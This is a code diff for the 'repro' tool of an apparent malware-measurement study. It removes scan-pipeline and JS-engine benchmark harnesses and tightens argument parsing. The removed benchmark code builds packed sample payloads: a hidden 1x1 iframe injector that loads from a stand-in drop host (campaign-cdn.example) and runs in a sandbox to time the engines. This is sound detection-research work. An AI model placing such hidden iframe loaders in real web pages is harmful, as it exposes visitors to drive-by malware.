@@ -13,12 +13,6 @@
 //! `cases` (§V), `faultloss` (the detection-loss-under-faults
 //! experiment), `crawlloss` (the corpus-loss-under-exchange-faults
 //! experiment), plus `json` (the full study as one JSON document),
-//! `bench-scan` (the crawl→scan scaling harness: serial vs chunked
-//! parallel scan timing plus barrier-vs-overlap pipeline wall-clock
-//! across crawl scales, written to `BENCH_scanpipe.json`) and
-//! `bench-jsvm` (the JS-engine harness: tree-walk vs cold vs warm-cache
-//! bytecode VM over a repeated-payload corpus, plus per-scale scan
-//! wall-clock under each engine, written to `BENCH_jsvm.json`),
 //! `bench-serve` (the multi-tenant service harness: two tenants running
 //! the same study through one resident service, cross-tenant cache hit
 //! rate and verdict-query throughput, written to `BENCH_serve.json`),
@@ -46,16 +40,17 @@
 //! `--checkpoint` run after N checkpoint rounds — a deterministic
 //! stand-in for a crash), `--metrics <path>` (dump the study's
 //! observability snapshot — `Study::metrics()` — as JSON),
-//! `--overlap` (stream crawl chunks straight into the scan phase
-//! instead of waiting for the crawl barrier; bit-identical output),
 //! `--js-engine <name>` (`vm`, the default compiled-bytecode engine,
 //! or `interp`, the tree-walking oracle — scan output is bit-identical
 //! either way), `--substrate <name>` (traffic substrate to crawl:
 //! `exchange`, the paper's nine traffic exchanges and the default;
 //! `adnet`, the low-tier ad-network ecosystem; or `torrent`, the
-//! torrent-index ecosystem) and `--quick` (restrict
-//! `bench-scan`/`bench-jsvm` to their smallest crawl scale, for CI
-//! smoke runs).
+//! torrent-index ecosystem) and `--quick` (restrict `bench-serve` and
+//! `chaos` to their smallest scale, for CI smoke runs). An unknown
+//! option or artifact name exits with status 2 and the usage line.
+//!
+//! Study-pipeline timing lives in the separate `slumbench` package
+//! (`crates/bench/src/bin/slumbench`).
 
 use std::path::Path;
 use std::sync::OnceLock;
@@ -68,6 +63,19 @@ use malware_slums::DiskFaultProfile;
 use slum_crawler::CrawlFaultProfile;
 use slum_detect::fault::FaultProfile;
 use slum_js::sandbox::JsEngine;
+
+/// The one-line synopsis `--help` leads with and argument errors end with.
+const USAGE: &str = "usage: repro [artifacts..] [--scale F] [--seed N] [--workers W] \
+                     [--fault-profile NAME] [--crawl-fault-profile NAME] \
+                     [--disk-fault-profile NAME] [--checkpoint DIR] [--checkpoint-every N] \
+                     [--resume DIR] [--kill-after-round N] [--metrics PATH] [--quick] \
+                     [--js-engine NAME] [--substrate NAME] [--port N] [--root DIR]";
+
+/// Artifact names beyond the [`ArtifactKind`] ones.
+const EXTRA_ARTIFACTS: [&str; 12] = [
+    "all", "vetting", "burst", "cloaking", "staleness", "faultloss", "crawlloss", "cases", "json",
+    "bench-serve", "chaos", "serve",
+];
 
 struct Args {
     artifacts: Vec<String>,
@@ -82,7 +90,6 @@ struct Args {
     resume: Option<String>,
     kill_after_round: Option<u64>,
     metrics: Option<String>,
-    overlap: bool,
     quick: bool,
     js_engine: JsEngine,
     substrate: Substrate,
@@ -103,7 +110,6 @@ fn parse_args() -> Args {
     let mut resume = None;
     let mut kill_after_round = None;
     let mut metrics = None;
-    let mut overlap = false;
     let mut quick = false;
     let mut js_engine = JsEngine::default();
     let mut substrate = Substrate::default();
@@ -184,7 +190,6 @@ fn parse_args() -> Args {
             "--metrics" => {
                 metrics = Some(iter.next().unwrap_or_else(|| die("--metrics needs a path")));
             }
-            "--overlap" => overlap = true,
             "--quick" => quick = true,
             "--js-engine" => {
                 let name = iter.next().unwrap_or_else(|| die("--js-engine needs a name"));
@@ -212,15 +217,10 @@ fn parse_args() -> Args {
             }
             "--help" | "-h" => {
                 println!(
-                    "usage: repro [artifacts..] [--scale F] [--seed N] [--workers W] \
-                     [--fault-profile NAME] [--crawl-fault-profile NAME] \
-                     [--disk-fault-profile NAME] [--checkpoint DIR] \
-                     [--checkpoint-every N] [--resume DIR] [--kill-after-round N] \
-                     [--metrics PATH] [--overlap] [--quick] [--js-engine NAME] \
-                     [--substrate NAME] [--port N] [--root DIR]\n\
+                    "{USAGE}\n\
                      artifacts: all table1 table2 table3 table4 fig2 fig3 fig4 fig5 fig6 fig7 \
                      substrates vetting burst cloaking staleness faultloss crawlloss cases json \
-                     bench-scan bench-jsvm bench-serve chaos serve\n\
+                     bench-serve chaos serve\n\
                      fault profiles: none default harsh (scan, crawl and disk alike; \
                      --disk-fault-profile injects torn/short writes, bit flips and ENOSPC \
                      into checkpoint storage — artifacts stay bit-identical)\n\
@@ -228,9 +228,7 @@ fn parse_args() -> Args {
                      — scan output is bit-identical either way\n\
                      substrates: exchange (default; the paper's nine traffic exchanges) \
                      adnet (low-tier ad networks) torrent (torrent indexes)\n\
-                     --overlap streams crawl chunks into the scan phase (no barrier); \
-                     --quick restricts bench-scan/bench-jsvm/bench-serve/chaos to their \
-                     smallest scale\n\
+                     --quick restricts bench-serve/chaos to their smallest scale\n\
                      chaos: seeded storm of daemon kills, checkpoint corruption, disk \
                      faults and tenant panics; merges a faults section into \
                      BENCH_serve.json\n\
@@ -240,7 +238,15 @@ fn parse_args() -> Args {
                 );
                 std::process::exit(0);
             }
-            other => artifacts.push(other.to_string()),
+            other if other.starts_with("--") => {
+                die(&format!("unknown option '{other}'\n{USAGE}"));
+            }
+            other => {
+                if ArtifactKind::parse(other).is_none() && !EXTRA_ARTIFACTS.contains(&other) {
+                    die(&format!("unknown artifact '{other}'\n{USAGE}"));
+                }
+                artifacts.push(other.to_string());
+            }
         }
     }
     if artifacts.is_empty() {
@@ -265,7 +271,6 @@ fn parse_args() -> Args {
         resume,
         kill_after_round,
         metrics,
-        overlap,
         quick,
         js_engine,
         substrate,
@@ -306,7 +311,6 @@ fn main() {
                 .crawl_scale(args.scale)
                 .domain_scale((args.scale * 25.0).clamp(0.03, 1.0))
                 .scan_workers(args.workers)
-                .overlap_scan(args.overlap)
                 .js_engine(args.js_engine)
                 .substrate(args.substrate)
                 .fault_profile(args.fault_profile.clone())
@@ -573,14 +577,6 @@ fn main() {
     }
     // Explicitly requested only — timing output is machine-dependent,
     // so it must not pollute the deterministic `all` artifacts.
-    if args.artifacts.iter().any(|a| a == "bench-scan") {
-        println!("=== Crawl→scan pipeline benchmark ===");
-        bench_scan(args.seed, args.quick);
-    }
-    if args.artifacts.iter().any(|a| a == "bench-jsvm") {
-        println!("=== JS bytecode VM benchmark ===");
-        bench_jsvm(args.seed, args.quick);
-    }
     if args.artifacts.iter().any(|a| a == "bench-serve") {
         println!("=== Multi-tenant study service benchmark ===");
         bench_serve(args.seed, args.quick);
@@ -595,421 +591,6 @@ fn main() {
             Ok(()) => eprintln!("[repro] wrote metrics snapshot to {path}"),
             Err(e) => die(&format!("could not write {path}: {e}")),
         }
-    }
-}
-
-/// The crawl→scan scaling harness behind `repro bench-scan`.
-///
-/// For each crawl scale (`--quick` keeps only the smallest) it:
-///
-/// 1. runs the phase-barrier study end to end (`Study::run_timed`),
-/// 2. times a cold serial scan plus chunked parallel scans at 1/2/4/8
-///    requested workers over the crawled corpus — requests that the
-///    serial-fallback/parallelism clamp resolves to the serial plan
-///    reuse the serial measurement, because that *is* the plan the
-///    study executes (`serial_fallback: true` in the row),
-/// 3. runs the same study with `overlap_scan` (crawl chunks streamed
-///    straight into scan workers) and reports the wall-clock saved by
-///    removing the barrier,
-///
-/// checks every variant stays bit-identical to the serial baseline,
-/// and writes `BENCH_scanpipe.json`: the legacy top-level
-/// `benchmark`/`seed`/`crawl_scale`/`records`/`runs` keys (from the
-/// first scale) plus `host.cpus`, scan-chunk parameters, and the
-/// per-scale `scales` array.
-fn bench_scan(seed: u64, quick: bool) {
-    use malware_slums::scanpipe::{
-        effective_scan_workers, ScanPipeline, DEFAULT_SCAN_CHUNK, DEFAULT_SERIAL_SCAN_THRESHOLD,
-    };
-
-    let scales: &[f64] = if quick { &[0.001] } else { &[0.001, 0.1, 1.0] };
-    let cpus = malware_slums::study::default_scan_workers();
-    println!("host: {cpus} cpu(s); scales {scales:?}; workers [1, 2, 4, 8]");
-
-    let mut scale_entries: Vec<BenchScale> = Vec::new();
-    for &scale in scales {
-        let config = || {
-            StudyConfig::builder()
-                .seed(seed)
-                .crawl_scale(scale)
-                .domain_scale((scale * 25.0).clamp(0.03, 1.0))
-        };
-        eprintln!("[bench] crawl_scale {scale}: barrier study ...");
-        let (study, barrier) = Study::run_timed(&config().build().expect("bench config"));
-        let records = study.store.records();
-        let regular = study.regular_mask().iter().filter(|r| **r).count();
-
-        // Scan-only scaling: cold caches for every measurement so rows
-        // are comparable; identical outcomes enforced on every variant.
-        let pipeline = ScanPipeline::new(&study.web);
-        pipeline.clear_caches();
-        let t0 = std::time::Instant::now();
-        let baseline = pipeline.scan_all(records);
-        let serial = t0.elapsed().as_secs_f64();
-        println!(
-            "scale {scale}: {} records ({regular} regular), serial scan {serial:.3}s \
-             ({:.0} records/s)",
-            records.len(),
-            records.len() as f64 / serial.max(1e-9)
-        );
-
-        // Honesty rule: when the serial-fallback clamp collapses a
-        // multi-worker request to the serial plan, there is exactly one
-        // measurement — re-reporting the same seconds once per request
-        // would read as four independent timings. Collapsed requests
-        // fold into ONE row marked `duplicates_of: 1` listing the
-        // worker counts it covers.
-        let mut runs = Vec::new();
-        let mut collapsed: Vec<usize> = Vec::new();
-        for workers in [1usize, 2, 4, 8] {
-            let effective =
-                effective_scan_workers(records.len(), workers, DEFAULT_SERIAL_SCAN_THRESHOLD);
-            if effective == 1 && workers > 1 {
-                // The study would execute the serial plan for this
-                // request (small corpus or single-core host); the
-                // serial measurement already covers it.
-                println!("  {workers} worker(s) -> serial fallback (covered by the 1-worker row)");
-                collapsed.push(workers);
-                continue;
-            }
-            let (seconds, fallback) = if effective == 1 {
-                (serial, false)
-            } else {
-                pipeline.clear_caches();
-                let t0 = std::time::Instant::now();
-                let outcomes =
-                    pipeline.scan_all_parallel_chunked(records, effective, DEFAULT_SCAN_CHUNK);
-                let elapsed = t0.elapsed().as_secs_f64();
-                assert_eq!(outcomes, baseline, "parallel scan must match serial bit-for-bit");
-                (elapsed, false)
-            };
-            let speedup = serial / seconds.max(1e-9);
-            println!(
-                "  {workers} worker(s) -> {effective} effective: {seconds:.3}s \
-                 (speedup {speedup:.2}x{})",
-                if fallback { ", serial fallback" } else { "" }
-            );
-            runs.push(BenchRun {
-                workers,
-                effective_workers: effective,
-                seconds,
-                speedup,
-                records_per_sec: records.len() as f64 / seconds.max(1e-9),
-                serial_fallback: fallback,
-                duplicates_of: None,
-                covers_workers: Vec::new(),
-            });
-        }
-        if !collapsed.is_empty() {
-            let serial_row = &runs[0];
-            runs.push(BenchRun {
-                workers: collapsed[0],
-                effective_workers: 1,
-                seconds: serial_row.seconds,
-                speedup: serial_row.speedup,
-                records_per_sec: serial_row.records_per_sec,
-                serial_fallback: true,
-                duplicates_of: Some(1),
-                covers_workers: collapsed,
-            });
-        }
-
-        // Pipeline overlap: same study with the barrier removed. The
-        // overlapped scan span covers the streamed region, so its total
-        // is build + the longer of the two overlapped phases.
-        eprintln!("[bench] crawl_scale {scale}: overlapped study ...");
-        let (overlap_study, overlap) =
-            Study::run_timed(&config().overlap_scan(true).build().expect("bench config"));
-        assert_eq!(
-            overlap_study.outcomes, study.outcomes,
-            "overlapped pipeline must match the barrier run bit-for-bit"
-        );
-        let barrier_total =
-            (barrier.build + barrier.crawl + barrier.scan).as_secs_f64();
-        let overlap_total =
-            (overlap.build + overlap.crawl.max(overlap.scan)).as_secs_f64();
-        let savings = barrier_total - overlap_total;
-        println!(
-            "  barrier total {barrier_total:.3}s (crawl {:.3}s + scan {:.3}s), \
-             overlapped total {overlap_total:.3}s -> {savings:+.3}s saved\n",
-            barrier.crawl.as_secs_f64(),
-            barrier.scan.as_secs_f64()
-        );
-
-        scale_entries.push(BenchScale {
-            crawl_scale: scale,
-            records: records.len(),
-            regular_records: regular,
-            crawl_seconds: barrier.crawl.as_secs_f64(),
-            scan_seconds: barrier.scan.as_secs_f64(),
-            barrier_total_seconds: barrier_total,
-            overlap_total_seconds: overlap_total,
-            overlap_savings_seconds: savings,
-            runs,
-        });
-    }
-
-    // The first (smallest) scale doubles as the legacy flat schema so
-    // existing consumers of BENCH_scanpipe.json keep parsing. Deduped
-    // rows re-expand here: the legacy shape promises one entry per
-    // requested worker count.
-    let first = scale_entries.first().expect("at least one scale ran");
-    let doc = BenchDoc {
-        benchmark: "scanpipe".to_string(),
-        seed,
-        crawl_scale: first.crawl_scale,
-        records: first.records,
-        runs: [1usize, 2, 4, 8]
-            .iter()
-            .filter_map(|&w| {
-                first
-                    .runs
-                    .iter()
-                    .find(|r| r.workers == w || r.covers_workers.contains(&w))
-                    .map(|r| LegacyRun {
-                        workers: w,
-                        executed_workers: r.effective_workers,
-                        seconds: r.seconds,
-                        speedup: r.speedup,
-                        serial_fallback: r.serial_fallback,
-                    })
-            })
-            .collect(),
-        host: BenchHost { cpus },
-        scan_chunk: DEFAULT_SCAN_CHUNK,
-        serial_scan_threshold: DEFAULT_SERIAL_SCAN_THRESHOLD,
-        scales: scale_entries,
-    };
-    let json = format!(
-        "{}\n",
-        serde_json::to_string_pretty(&doc).expect("bench document serializes")
-    );
-    match std::fs::write("BENCH_scanpipe.json", &json) {
-        Ok(()) => println!("wrote BENCH_scanpipe.json"),
-        Err(e) => eprintln!("repro: could not write BENCH_scanpipe.json: {e}"),
-    }
-}
-
-/// One measured scan run inside `BENCH_scanpipe.json`. A row whose
-/// `duplicates_of` is set holds no independent measurement: its timing
-/// is the row with that worker count (always the serial row), and
-/// `covers_workers` lists every requested count it stands in for.
-#[derive(serde::Serialize)]
-struct BenchRun {
-    workers: usize,
-    effective_workers: usize,
-    seconds: f64,
-    speedup: f64,
-    records_per_sec: f64,
-    serial_fallback: bool,
-    #[serde(skip_serializing_if = "Option::is_none")]
-    duplicates_of: Option<usize>,
-    #[serde(skip_serializing_if = "Vec::is_empty")]
-    covers_workers: Vec<usize>,
-}
-
-/// The JS-engine microbenchmark and scan-phase comparison behind
-/// `repro bench-jsvm`, written to `BENCH_jsvm.json`.
-///
-/// Microbench: a repeated-payload corpus — distinct packed campaign
-/// payloads (decoder loops via `obfuscate::pack_layers`), each executed
-/// many times, the way one campaign's script shows up across thousands
-/// of exchange pages. Three engine configurations run the identical
-/// corpus:
-///
-/// - `tree-walk` — the AST interpreter, per-run parse + walk;
-/// - `vm-cold` — bytecode VM without a module store: per-run parse +
-///   compile + dispatch (the VM's worst case);
-/// - `vm-warm` — bytecode VM with a shared [`JsModuleCache`]: each
-///   distinct payload compiles once, every later run starts at cached
-///   bytecode (the scan pipeline's configuration).
-///
-/// Reports are asserted observably identical across all three before
-/// any timing is trusted. Scan-phase comparison: the full study at each
-/// crawl scale (`--quick` keeps the smallest) under `--js-engine
-/// interp` vs `vm`, bit-identical outcomes enforced, scan wall-clock
-/// and the `js.vm.*` counters reported.
-fn bench_jsvm(seed: u64, quick: bool) {
-    use std::sync::Arc;
-    use std::time::Instant;
-
-    use slum_detect::JsModuleCache;
-    use slum_js::obfuscate::pack_layers;
-    use slum_js::sandbox::Sandbox;
-    use slum_js::ModuleStore;
-
-    let cpus = malware_slums::study::default_scan_workers();
-    let distinct = 12usize;
-    let repeats = if quick { 40usize } else { 200 };
-
-    // Distinct campaign payloads: an iframe injector behind 1–3 packer
-    // layers, with a small decoder-style loop so execution cost is not
-    // pure parse overhead.
-    let payloads: Vec<String> = (0..distinct)
-        .map(|i| {
-            let injector = format!(
-                "var n = 0; for (var i = 0; i < 60; i++) {{ n = n + i; }} \
-                 document.write('<iframe width=\"1\" height=\"1\" \
-                 src=\"http://sink{i}.campaign-cdn.example/drop?k=' + n + '\"></iframe>');"
-            );
-            pack_layers(&injector, 1 + (i as u32 % 3))
-        })
-        .collect();
-    let executions = (distinct * repeats) as u64;
-    println!(
-        "microbench: {distinct} distinct payloads x {repeats} repeats \
-         = {executions} executions per engine"
-    );
-
-    // Round-robin over payloads so warm-cache hits interleave the way
-    // campaign pages do in a crawl, rather than running each payload as
-    // an isolated burst.
-    let run_corpus = |engine: JsEngine, store: Option<&Arc<JsModuleCache>>| -> (f64, Vec<String>) {
-        let t0 = Instant::now();
-        let mut last_html = Vec::new();
-        for round in 0..repeats {
-            for payload in &payloads {
-                let mut sandbox = Sandbox::new().with_engine(engine);
-                if let Some(cache) = store {
-                    sandbox =
-                        sandbox.with_module_store(Arc::clone(cache) as Arc<dyn ModuleStore>);
-                }
-                let report = sandbox.run(payload);
-                assert!(report.errors.is_empty(), "payload must execute cleanly");
-                if round == 0 {
-                    last_html.push(report.written_html);
-                }
-            }
-        }
-        (t0.elapsed().as_secs_f64(), last_html)
-    };
-
-    let (tw_secs, tw_html) = run_corpus(JsEngine::TreeWalk, None);
-    let (cold_secs, cold_html) = run_corpus(JsEngine::Vm, None);
-    let warm_cache = Arc::new(JsModuleCache::new());
-    let (warm_secs, warm_html) = run_corpus(JsEngine::Vm, Some(&warm_cache));
-    assert_eq!(cold_html, tw_html, "vm output must match the tree-walk oracle");
-    assert_eq!(warm_html, tw_html, "warm-cache vm output must match the tree-walk oracle");
-
-    let per_sec = |secs: f64| executions as f64 / secs.max(1e-9);
-    let warm_stats = warm_cache.stats();
-    let engines = vec![
-        JsEngineRun {
-            engine: "tree-walk".to_string(),
-            seconds: tw_secs,
-            runs_per_sec: per_sec(tw_secs),
-            speedup_vs_treewalk: 1.0,
-            compiles: None,
-            module_hits: None,
-            compile_nanos: None,
-        },
-        JsEngineRun {
-            engine: "vm-cold".to_string(),
-            seconds: cold_secs,
-            runs_per_sec: per_sec(cold_secs),
-            speedup_vs_treewalk: tw_secs / cold_secs.max(1e-9),
-            compiles: None,
-            module_hits: None,
-            compile_nanos: None,
-        },
-        JsEngineRun {
-            engine: "vm-warm".to_string(),
-            seconds: warm_secs,
-            runs_per_sec: per_sec(warm_secs),
-            speedup_vs_treewalk: tw_secs / warm_secs.max(1e-9),
-            compiles: Some(warm_stats.entries),
-            module_hits: Some(warm_stats.hits),
-            compile_nanos: Some(warm_cache.total_compile_nanos()),
-        },
-    ];
-    for run in &engines {
-        println!(
-            "  {:<10} {:>8.3}s  {:>10.0} runs/s  ({:.2}x tree-walk)",
-            run.engine, run.seconds, run.runs_per_sec, run.speedup_vs_treewalk
-        );
-    }
-    let warm_speedup = tw_secs / warm_secs.max(1e-9);
-    println!(
-        "  warm cache: {} compiles served {} warm hits\n",
-        warm_stats.entries, warm_stats.hits
-    );
-
-    // Scan-phase comparison: the same seeded study under each engine.
-    let scales: &[f64] = if quick { &[0.001] } else { &[0.001, 0.1, 1.0] };
-    let mut scale_entries: Vec<JsVmScale> = Vec::new();
-    for &scale in scales {
-        let config = |engine: JsEngine| {
-            StudyConfig::builder()
-                .seed(seed)
-                .crawl_scale(scale)
-                .domain_scale((scale * 25.0).clamp(0.03, 1.0))
-                .js_engine(engine)
-                .build()
-                .expect("bench config")
-        };
-        eprintln!("[bench] crawl_scale {scale}: tree-walk study ...");
-        let (tw_study, tw_phases) = Study::run_timed(&config(JsEngine::TreeWalk));
-        // Keep only the outcomes for the equality check and free the
-        // rest (web, corpus, HAR logs) before timing the VM study —
-        // holding the first study's full corpus alive would tax the
-        // second run's allocator and skew the comparison.
-        let tw_outcomes = tw_study.outcomes.clone();
-        drop(tw_study);
-        eprintln!("[bench] crawl_scale {scale}: vm study ...");
-        let (vm_study, vm_phases) = Study::run_timed(&config(JsEngine::Vm));
-        assert_eq!(
-            vm_study.outcomes, tw_outcomes,
-            "vm scan output must be bit-identical to the interpreter's"
-        );
-        let m = vm_study.metrics();
-        let records = vm_study.store.len();
-        let tw_scan = tw_phases.scan.as_secs_f64();
-        let vm_scan = vm_phases.scan.as_secs_f64();
-        println!(
-            "scale {scale}: {records} records; scan tree-walk {tw_scan:.3}s, \
-             vm {vm_scan:.3}s ({:.2}x); {} compiles, {} warm hits",
-            tw_scan / vm_scan.max(1e-9),
-            m.counter("js.vm.compiles"),
-            m.counter("js.vm.module_cache.hits"),
-        );
-        scale_entries.push(JsVmScale {
-            crawl_scale: scale,
-            records,
-            treewalk_scan_seconds: tw_scan,
-            vm_scan_seconds: vm_scan,
-            vm_scan_speedup: tw_scan / vm_scan.max(1e-9),
-            treewalk_records_per_sec: records as f64 / tw_scan.max(1e-9),
-            vm_records_per_sec: records as f64 / vm_scan.max(1e-9),
-            js_vm: JsVmCounters {
-                compiles: m.counter("js.vm.compiles"),
-                module_cache_lookups: m.counter("js.vm.module_cache.lookups"),
-                module_cache_hits: m.counter("js.vm.module_cache.hits"),
-                instructions: m.counter("js.vm.instructions"),
-                budget_exhaustions: m.counter("js.vm.budget_exhaustions"),
-            },
-        });
-    }
-
-    let doc = JsVmDoc {
-        benchmark: "jsvm".to_string(),
-        seed,
-        host: BenchHost { cpus },
-        microbench: JsVmMicrobench {
-            distinct_payloads: distinct,
-            repeats,
-            executions,
-            engines,
-            warm_speedup_vs_treewalk: warm_speedup,
-        },
-        scales: scale_entries,
-    };
-    let json = format!(
-        "{}\n",
-        serde_json::to_string_pretty(&doc).expect("bench document serializes")
-    );
-    match std::fs::write("BENCH_jsvm.json", &json) {
-        Ok(()) => println!("\nwrote BENCH_jsvm.json"),
-        Err(e) => eprintln!("repro: could not write BENCH_jsvm.json: {e}"),
     }
 }
 
@@ -1362,111 +943,8 @@ struct ServeDoc {
     faults: Option<serde_json::Value>,
 }
 
-/// The pre-scaling-harness row shape, kept for existing consumers. The
-/// legacy contract promises one entry per *requested* worker count; on
-/// hosts where the serial-fallback clamp collapses several requests
-/// onto one serial measurement, `executed_workers` and
-/// `serial_fallback` say so per row — without them, four rows with
-/// byte-identical seconds and speedup 1.0 read as four independent
-/// timings that mysteriously refused to scale.
-#[derive(serde::Serialize)]
-struct LegacyRun {
-    workers: usize,
-    executed_workers: usize,
-    seconds: f64,
-    speedup: f64,
-    serial_fallback: bool,
-}
-
-/// One engine configuration's microbenchmark row in `BENCH_jsvm.json`.
-#[derive(serde::Serialize)]
-struct JsEngineRun {
-    engine: String,
-    seconds: f64,
-    runs_per_sec: f64,
-    speedup_vs_treewalk: f64,
-    #[serde(skip_serializing_if = "Option::is_none")]
-    compiles: Option<u64>,
-    #[serde(skip_serializing_if = "Option::is_none")]
-    module_hits: Option<u64>,
-    #[serde(skip_serializing_if = "Option::is_none")]
-    compile_nanos: Option<u64>,
-}
-
-/// The repeated-payload microbenchmark section of `BENCH_jsvm.json`.
-#[derive(serde::Serialize)]
-struct JsVmMicrobench {
-    distinct_payloads: usize,
-    repeats: usize,
-    executions: u64,
-    engines: Vec<JsEngineRun>,
-    warm_speedup_vs_treewalk: f64,
-}
-
-/// The `js.vm.*` counters of one VM study run.
-#[derive(serde::Serialize)]
-struct JsVmCounters {
-    compiles: u64,
-    module_cache_lookups: u64,
-    module_cache_hits: u64,
-    instructions: u64,
-    budget_exhaustions: u64,
-}
-
-/// Per-crawl-scale scan-phase comparison in `BENCH_jsvm.json`.
-#[derive(serde::Serialize)]
-struct JsVmScale {
-    crawl_scale: f64,
-    records: usize,
-    treewalk_scan_seconds: f64,
-    vm_scan_seconds: f64,
-    vm_scan_speedup: f64,
-    treewalk_records_per_sec: f64,
-    vm_records_per_sec: f64,
-    js_vm: JsVmCounters,
-}
-
-/// Top-level `BENCH_jsvm.json` document.
-#[derive(serde::Serialize)]
-struct JsVmDoc {
-    benchmark: String,
-    seed: u64,
-    host: BenchHost,
-    microbench: JsVmMicrobench,
-    scales: Vec<JsVmScale>,
-}
-
-/// Per-crawl-scale section of `BENCH_scanpipe.json`.
-#[derive(serde::Serialize)]
-struct BenchScale {
-    crawl_scale: f64,
-    records: usize,
-    regular_records: usize,
-    crawl_seconds: f64,
-    scan_seconds: f64,
-    barrier_total_seconds: f64,
-    overlap_total_seconds: f64,
-    overlap_savings_seconds: f64,
-    runs: Vec<BenchRun>,
-}
-
 /// Host facts needed to interpret the speedup columns.
 #[derive(serde::Serialize)]
 struct BenchHost {
     cpus: usize,
-}
-
-/// Top-level `BENCH_scanpipe.json` document: the legacy flat keys
-/// (first scale) plus the per-scale scaling sections.
-#[derive(serde::Serialize)]
-struct BenchDoc {
-    benchmark: String,
-    seed: u64,
-    crawl_scale: f64,
-    records: usize,
-    runs: Vec<LegacyRun>,
-    host: BenchHost,
-    scan_chunk: usize,
-    serial_scan_threshold: usize,
-    scales: Vec<BenchScale>,
 }
